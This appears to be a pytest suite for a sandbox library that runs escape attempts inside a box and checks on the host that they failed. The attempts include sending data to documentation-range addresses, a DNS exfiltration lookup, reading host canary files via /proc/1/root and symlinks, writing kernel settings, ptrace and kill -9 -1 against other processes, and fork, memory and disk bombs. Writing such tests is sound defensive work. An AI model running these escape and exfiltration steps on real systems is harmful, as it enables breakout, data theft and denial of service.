# SPDX-License-Identifier: Apache-2.0
"""Attempts to leave a box, in each tier, with the evidence taken on the host: what arrived, changed or grew there.

What a guest reports about its own failure proves little; a listener that heard nothing, a file that nobody opened
and a group that never grew prove something. Each listener is heard to work first, by the host itself.
"""

from __future__ import annotations

import ctypes
import os
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from proofhouse.sandbox import Box, BoxSpec, Limits, SandboxDead, Tier
from sandbox.conftest import TIERS, open_tier

pytestmark = pytest.mark.sandbox

_LIMITS = Limits(wall_s=30, memory_bytes=128 << 20, pids=40, output_bytes=100_000)


@pytest.fixture(scope="module", params=TIERS)
def tier(request: pytest.FixtureRequest) -> Tier:
    return request.param


@pytest.fixture(scope="module")
def box(tier: Tier) -> Iterator[Box]:
    with open_tier(tier, BoxSpec(_LIMITS)) as opened:
        yield opened


@pytest.fixture(scope="module")
def other(tier: Tier) -> Iterator[Box]:
    """The box of another sample, with background processes that live on."""
    with open_tier(tier, BoxSpec(_LIMITS, keep_background=True)) as opened:
        yield opened


def _python(box: Box, script: str, *arguments: str, **options: object) -> bytes:
    done = box.exec(["python3", "-c", script, *arguments], **options)  # type: ignore[arg-type]  # passed through
    return done.stdout + done.stderr


def _members(box: Box) -> set[int]:
    """The host's numbers of every process that the box consists of."""
    group = box._holder.group  # type: ignore[attr-defined]  # every tier has one
    if group.memory is None:
        pytest.skip(
            "the host can tell a box's processes by its control group only, and none can be made here"
        )
    return group.members()


# ---- network ------------------------------------------------------------------------------------------


@contextmanager
def _sniffer() -> Iterator[socket.socket]:
    """Every IP packet that passes any interface of the host."""
    try:
        opened = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))  # ETH_P_ALL
    except PermissionError:
        pytest.skip("only root sees the packets of the host")
    with opened as sniffer:
        sniffer.setblocking(False)
        yield sniffer


def _destinations(sniffer: socket.socket) -> set[str]:
    seen = set()
    while True:
        try:
            packet = sniffer.recv(65536)
        except BlockingIOError:
            return seen
        if len(packet) >= 20 and packet[0] >> 4 == 4:
            seen.add(socket.inet_ntoa(packet[16:20]))


def test_nothing_sent_to_the_test_networks_leaves_the_host(box: Box) -> None:
    nobody = (
        "192.0.2.231",
        "198.51.100.77",
        "203.0.113.179",
    )  # a host may have others of these networks itself
    script = f"""
import socket
for address in {nobody}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(1)
        try:
            s.connect((address, 53)); s.send(b"leak"); print("SENT" if kind == socket.SOCK_STREAM else "sent")
        except OSError as error:
            print(error.errno)
"""
    with _sniffer() as sniffer:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
            control.sendto(b"x", ("127.99.99.99", 9))
        assert b"SENT" not in _python(box, script)
        time.sleep(0.05)
        seen = _destinations(sniffer)
    assert "127.99.99.99" in seen
    assert seen.isdisjoint(nobody)


def test_every_process_of_the_box_has_a_network_without_interfaces(box: Box) -> None:
    ours = str(Path("/proc/self/ns/net").readlink())
    networks = {}
    for pid in _members(box):
        try:
            networks[str(Path(f"/proc/{pid}/ns/net").readlink())] = Path(f"/proc/{pid}/net/dev").read_text()
        except (FileNotFoundError, PermissionError):
            continue
    networks.pop(ours, None)  # bubblewrap's and runsc's own supervisors, which run no guest
    assert networks
    for table in networks.values():
        interfaces = {line.split(":")[0].strip() for line in table.splitlines()[2:]}
        assert interfaces <= {"lo"}


def test_the_hosts_loopback_hears_nothing(box: Box) -> None:
    name = f"proofhouse-suite-{os.getpid()}"
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        udp.bind(("127.0.0.1", 0))
        abstract.bind(f"\0{name}")
        abstract.listen()
        ports = (tcp.getsockname()[1], udp.getsockname()[1])
        for control in (socket.create_connection(tcp.getsockname()), socket.socket(socket.AF_UNIX)):
            if control.family == socket.AF_UNIX:
                control.connect(f"\0{name}")
            control.close()
        tcp.accept()[0].close()
        abstract.accept()[0].close()
        for listener in (tcp, udp, abstract):
            listener.setblocking(False)
        script = """
import socket, sys
for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "localhost", "10.0.2.2", "169.254.169.254", "172.17.0.1"):
    for port in map(int, sys.argv[1:3]):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
                s.settimeout(0.5); s.connect((address, port)); s.send(b"leak")
            except OSError:
                pass
try:
    s = socket.socket(socket.AF_UNIX); s.connect("\\0" + sys.argv[3]); s.send(b"leak")
except OSError:
    pass
"""
        _python(box, script, str(ports[0]), str(ports[1]), name)
        for listener in (tcp, abstract):
            with pytest.raises(BlockingIOError):
                listener.accept()
        with pytest.raises(BlockingIOError):
            udp.recv(10)


def test_no_question_for_a_name_reaches_the_host(box: Box) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        try:
            resolver.bind(("127.0.0.1", 53))
        except OSError:
            pytest.skip("port 53 of the host's loopback cannot be taken")
        resolver.setblocking(False)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
            control.sendto(b"control", ("127.0.0.1", 53))
        time.sleep(0.01)
        assert resolver.recv(100) == b"control"
        script = """
import socket
for name in ("secret.exfiltrated.example.com", "example.invalid"):
    try: print("ANSWER", socket.getaddrinfo(name, 80))
    except OSError: pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7invalid\\0\\0\\1\\0\\1", ("127.0.0.1", 53))
except OSError: pass
"""
        assert b"ANSWER" not in _python(box, script)
        with pytest.raises(BlockingIOError):
            resolver.recv(100)


# ---- the host's files, processes and kernel --------------------------------------------------------------


class _Watch:
    """Tells whether anybody opened or read one of some files, by inotify(7)."""

    def __init__(self, *paths: Path) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self._fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        for path in paths:
            assert libc.inotify_add_watch(self._fd, str(path).encode(), 0x21) > 0  # IN_OPEN | IN_ACCESS

    def touched(self) -> bool:
        try:
            return bool(os.read(self._fd, 4096))
        except BlockingIOError:
            return False

    def close(self) -> None:
        os.close(self._fd)


def test_no_file_of_the_host_is_opened_by_any_path(box: Box) -> None:
    places = [tempfile.gettempdir(), "/var/tmp", "/dev/shm", str(Path.home())]
    files = []
    try:
        for place in places:
            handle, name = tempfile.mkstemp(prefix="proofhouse-canary-", dir=place)
            os.write(handle, b"host secret 4711")
            os.fchmod(handle, 0o644)
            os.close(handle)
            files.append(Path(name))
        watch = _Watch(*files)
        files[0].read_bytes()
        assert watch.touched()
        script = """
import os, sys
for path in sys.argv[1:]:
    ways = [path, "/proc/1/root" + path, "/proc/self/root" + path, "/proc/self/cwd/../../../.." + path,
            "/proc/1/cwd" + path, "/tmp/link"]
    try: os.remove("/tmp/link")
    except OSError: pass
    os.symlink(path, "/tmp/link")
    for way in ways:
        try: print("READ", open(way, "rb").read())
        except OSError: pass
for root in ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root"):
    for directory, _, names in os.walk(root):
        if directory.startswith(("/usr", "/proc", "/sys")): continue
        for name in names:
            if name.startswith("proofhouse-canary-"): print("SEEN", directory, name)
"""
        said = _python(box, script, *map(str, files))
        assert b"READ" not in said
        assert b"SEEN" not in said
        assert not watch.touched()
        watch.close()
    finally:
        for file in files:
            file.unlink()


def test_a_link_planted_for_the_host_is_not_followed_by_it(box: Box) -> None:
    with tempfile.NamedTemporaryFile() as secret:
        secret.write(b"host secret 4711")
        secret.flush()
        watch = _Watch(Path(secret.name))
        box.exec(
            ["sh", "-c", f"ln -sf {secret.name} /work/link; ln -sfn {Path(secret.name).parent} /work/up"]
        )
        for path in ("link", f"up/{Path(secret.name).name}"):
            with pytest.raises(OSError, match=r"not a regular|No such file"):
                box.get(path, 100)
        assert not watch.touched()
        watch.close()


def test_no_process_of_the_host_shows(box: Box) -> None:
    with subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)", "argument-4711"], env={"SECRET": "environ-4711"}
    ) as process:
        try:
            script = """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("cmdline", "environ", "maps", "mountinfo"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError: pass
"""
            said = _python(box, script)
            # The script itself is a command line, so the marks are put together there.
            assert b"argument-" + b"4711" not in said
            assert b"environ-" + b"4711" not in said
            assert tempfile.gettempdir().encode() + b"/proofhouse" not in said
        finally:
            process.kill()


def test_neither_proc_nor_sys_tells_of_the_hosts_devices_or_takes_a_setting(box: Box, tier: Tier) -> None:
    def settings() -> dict[str, str]:
        names = ("core_pattern", "hostname", "randomize_va_space", "ns_last_pid")
        return {
            name: (Path("/proc/sys/kernel") / name).read_text()
            for name in names[:3]
            if (Path("/proc/sys/kernel") / name).exists()
        }

    before = settings()
    script = """
import os
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/randomize_va_space",
             "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/power/state", "/proc/sys/vm/drop_caches"):
    try:
        open(path, "w").write("0"); print("WROTE", path)
    except OSError: pass
for top in ("/sys",):
    for directory, kinds, names in os.walk(top):
        print(directory, *kinds, *names)
"""
    said = _python(box, script)
    assert settings() == before
    devices = [each.name for group in ("block", "class/net") for each in _listed(Path("/sys", group))]
    seen = set(said.decode().split())
    assert not {name for name in devices if name != "lo"} & seen
    if tier == "T0":
        assert b"WROTE" not in said  # gVisor's settings are its own


def _listed(directory: Path) -> list[Path]:
    return list(directory.iterdir()) if directory.is_dir() else []


def test_no_device_of_the_host_is_held_by_the_box(box: Box) -> None:
    script = """
import os, stat
for place in ("/work", "/tmp", "/dev/shm", "/run", "/var/tmp"):
    for major, minor in ((8, 0), (254, 0), (1, 1), (10, 232), (10, 200)):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            try:
                path = f"{place}/node{major}.{minor}.{kind}"
                os.mknod(path, kind | 0o666, os.makedev(major, minor)); print("MADE", path)
            except OSError: pass
for name in ("kvm", "mem", "kmsg", "vda", "sda", "net/tun", "fuse", "vsock", "vhost-net"):
    try: os.open("/dev/" + name, os.O_RDWR); print("OPENED", name)
    except OSError: pass
"""
    said = _python(box, script)
    assert b"MADE" not in said
    assert b"OPENED" not in said
    harmless = {"/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty"}
    held = set()
    for pid in _members(box):
        try:
            held |= {str(each.readlink()) for each in Path(f"/proc/{pid}/fd").iterdir()}
        except (FileNotFoundError, PermissionError):
            continue
    assert {name for name in held if name.startswith("/dev/")} <= harmless


def test_no_user_namespace_comes_into_being(box: Box) -> None:
    def namespaces() -> set[str]:
        found = set()
        for pid in _members(box):
            try:
                found.add(str(Path(f"/proc/{pid}/ns/user").readlink()))
            except (FileNotFoundError, PermissionError):
                continue
        return found

    before = namespaces()
    during: list[set[str]] = []
    attempt = "unshare -Ur sleep 2 & unshare -U sleep 2 & unshare -Unpf sleep 2 & wait; echo $?"
    worker = threading.Thread(target=box.exec, args=(["sh", "-c", attempt],))
    worker.start()
    while worker.is_alive():
        during.append(namespaces())
        time.sleep(0.02)
    worker.join()
    assert set().union(*during) == before


# ---- other samples ----------------------------------------------------------------------------------------


def test_no_process_of_another_sample_can_be_traced_read_or_signalled(box: Box, other: Box) -> None:
    other.exec(["sh", "-c", "setsid sh -c 'while :; do sleep 1; done' >/dev/null 2>&1 & sleep 0.2"])
    victims = _members(other)
    script = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pids = [int(a) for a in sys.argv[1:]]
buffer = ctypes.create_string_buffer(16)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16)
for pid in pids:
    if libc.ptrace(16, pid, 0, 0) == 0: print("TRACED", pid)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) >= 0: print("READ", pid)
    for number in (15, 9):
        try: os.kill(pid, number); print("SIGNALLED", pid)
        except OSError: pass
"""
    said = _python(box, script, *(str(pid) for pid in victims if pid > 300))
    assert said == b""
    assert victims <= _members(other)
    for pid in victims:
        fields = Path(f"/proc/{pid}/status").read_text().split("TracerPid:\t")
        tracer = int(fields[1].split()[0]) if len(fields) > 1 else 0
        assert tracer not in _members(box)
    assert other.exec(["pgrep", "-c", "sleep"]).stdout.strip() != b"0"


def test_neither_file_nor_socket_of_another_sample_is_in_reach(box: Box, other: Box) -> None:
    serve = """
import os, socket, sys
for place in ("/work", "/tmp", "/dev/shm", "/run", "/var/tmp"):
    open(place + "/secret-of-other", "w").write("4711")
listeners = [socket.create_server(("0.0.0.0", 4711)), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
listeners[1].bind("\\0other"); listeners[1].listen()
listeners[2].bind("/tmp/other.sock"); listeners[2].listen()
print("ready", flush=True)
sys.stdout = None
import select, time
open("/work/contacts", "w").write("")
while True:
    for each in select.select(listeners, [], [])[0]:
        each.accept(); open("/work/contacts", "a").write("hit\\n")
"""
    other.put("/work/serve.py", serve.encode())
    other.exec(
        [
            "sh",
            "-c",
            "python3 /work/serve.py >/tmp/ready 2>&1 & while ! [ -e /work/contacts ]; do sleep 0.05; done",
        ]
    )
    assert _python(other, "import socket; socket.create_connection(('127.0.0.1', 4711))") == b""
    time.sleep(0.3)
    assert other.get("/work/contacts", 100) == b"hit\n"
    look = """
import os, socket
for place in ("/work", "/tmp", "/dev/shm", "/run", "/var/tmp"):
    if os.path.exists(place + "/secret-of-other"): print("FOUND", place)
for family, address in ((socket.AF_INET, ("127.0.0.1", 4711)), (socket.AF_UNIX, "\\0other"),
                        (socket.AF_UNIX, "/tmp/other.sock")):
    s = socket.socket(family); s.settimeout(1)
    try: s.connect(address); print("REACHED", address)
    except OSError: pass
"""
    assert _python(box, look) == b""
    assert other.get("/work/contacts", 100) == b"hit\n"


def test_kill_minus_one_ends_only_the_guests_own(box: Box, other: Box) -> None:
    bystanders = [subprocess.Popen(["sleep", "60"])]
    if os.geteuid() == 0:  # a process of the host that happens to have the guest's own uid
        uid = box.enforcement.host_uid
        bystanders.append(subprocess.Popen(["sleep", "60"], user=uid, group=uid, extra_groups=[]))
    try:
        before = _members(other)
        box.exec(["bash", "-c", "kill -9 -1; kill -9 1"])
        box.exec(
            [
                "python3",
                "-c",
                "import os\nfor p in range(1, 4000):\n  try: os.kill(p, 9)\n  except OSError: pass",
            ]
        )
        assert [each.poll() for each in bystanders] == [None] * len(bystanders)
        assert before <= _members(other)
        assert box.exec(["echo", "alive"]).stdout == b"alive\n"
    finally:
        for each in bystanders:
            each.kill()
            each.wait()


# ---- bombs ------------------------------------------------------------------------------------------------


@contextmanager
def _watched(box: Box) -> Iterator[list[tuple[int, int]]]:
    """Processes and memory (bytes) of the box, as the host counts them, a hundred times a second."""
    seen: list[tuple[int, int]] = []
    stop = threading.Event()

    def look() -> None:
        while not stop.is_set():
            members = _members(box)
            seen.append((len(members), _memory_bytes(box)))
            stop.wait(0.01)

    _members(box)
    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield seen
    finally:
        stop.set()
        thread.join()


def _memory_bytes(box: Box) -> int:
    directory = box._holder.group._memory_directory  # type: ignore[attr-defined]  # every tier has one
    for name in ("memory.current", "memory.usage_in_bytes"):
        try:
            return int((directory / name).read_text())
        except OSError:
            continue
    return 0


def test_a_fork_bomb_is_bounded_as_the_host_counts(tier: Tier) -> None:
    bomb = """
import os, time
while True:
    try:
        if os.fork() == 0: time.sleep(20)
    except OSError: break
time.sleep(0.3)
"""
    with open_tier(tier, BoxSpec(_LIMITS)) as box, _watched(box) as seen:
        box.exec(["python3", "-c", bomb], wall_s=20)
        assert box.exec(["echo", "alive"]).stdout == b"alive\n"
    overhead = 12 if tier == "T0" else 256  # gVisor's own threads and stubs, which its group bounds
    assert max(count for count, _ in seen) <= _LIMITS.pids + overhead


def test_a_memory_bomb_is_bounded_as_the_host_counts(tier: Tier) -> None:
    with open_tier(tier, BoxSpec(_LIMITS)) as box, _watched(box) as seen:
        result = box.exec(["python3", "-c", "x = [bytearray(1 << 20) for _ in range(2000)]; print('all')"])
        assert result.out_of_memory
        assert b"all" not in result.stdout
        assert box.exec(["echo", "alive"]).stdout == b"alive\n"
    most = _LIMITS.memory_bytes + (0 if tier == "T0" else 256 << 20)
    assert max(used for _, used in seen) <= most


def test_a_disk_bomb_fills_the_box_and_not_the_host(tier: Tier) -> None:
    def free_bytes() -> list[int]:
        return [os.statvfs(place).f_bavail * os.statvfs(place).f_frsize for place in ("/", "/dev/shm")]

    script = (
        "for p in /work /tmp /var/tmp /dev/shm /run; do cat /dev/zero > $p/full; done; df -k /work | tail -1"
    )
    with open_tier(tier, BoxSpec(_LIMITS)) as box, _watched(box) as seen:
        before = free_bytes()
        box.exec(["sh", "-c", script])
        after = free_bytes()
        assert box.exec(["sh", "-c", "rm /work/full; echo alive"]).stdout == b"alive\n"
    assert before[1] - after[1] < 1 << 20
    assert before[0] - after[0] < 200 << 20  # other programs write too
    assert max(used for _, used in seen) <= _LIMITS.memory_bytes + (0 if tier == "T0" else 256 << 20)


def test_an_output_bomb_costs_the_host_no_memory(tier: Tier) -> None:
    with open_tier(tier, BoxSpec(_LIMITS)) as box:
        box.exec(["true"])
        before_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        for flood in ("head -c 300000000 /dev/zero", "head -c 100000000 /dev/zero >&2"):
            result = box.exec(["sh", "-c", flood])
            assert result.truncated
            assert len(result.stdout) + len(result.stderr) <= _LIMITS.output_bytes
        grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kib
    assert grown_kib < 64 << 10


def test_nothing_of_a_box_is_left_on_the_host(tier: Tier) -> None:
    before = set(Path(tempfile.gettempdir()).glob("proofhouse-t1-*"))
    with open_tier(tier, BoxSpec(_LIMITS, keep_background=True)) as box:
        box.exec(["sh", "-c", "for i in 1 2 3; do setsid sleep 1000 >/dev/null 2>&1 & done"])
        members, files = _members(box), box._holder.group.membership_files  # type: ignore[attr-defined]  # every tier
        assert members
    _await_end(members)
    assert not [file for file in files if file.exists()]
    assert set(Path(tempfile.gettempdir()).glob("proofhouse-t1-*")) <= before


def test_a_box_ends_with_its_host_process(tier: Tier) -> None:
    with open_tier(tier, BoxSpec(_LIMITS)):
        pass
    script = (
        "import sys, time; from proofhouse.sandbox import BoxSpec, open_box; box = open_box(BoxSpec(tier=sys.argv[1]));"
        "print(*box._holder.group.members(), flush=True); time.sleep(60)"
    )
    with subprocess.Popen([sys.executable, "-c", script, tier], stdout=subprocess.PIPE) as host:
        assert host.stdout is not None
        members = [int(pid) for pid in host.stdout.readline().split()]
        if not members:
            host.kill()
            pytest.skip("no control groups can be made here")
        host.kill()
    _await_end(members)


def _await_end(members: Iterable[int]) -> None:
    """The kernel may take a moment to forget the numbers of ended processes."""
    deadline = time.monotonic() + 10
    while (left := [pid for pid in members if Path(f"/proc/{pid}").exists()]) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert left == []


def test_a_killed_kernel_makes_the_sample_invalid_and_not_a_result(tier: Tier) -> None:
    with open_tier(tier, BoxSpec(_LIMITS)) as box:
        threading.Timer(0.3, box.kill, ["the switch"]).start()
        with pytest.raises(SandboxDead, match="the switch"):
            box.exec(["sleep", "20"])
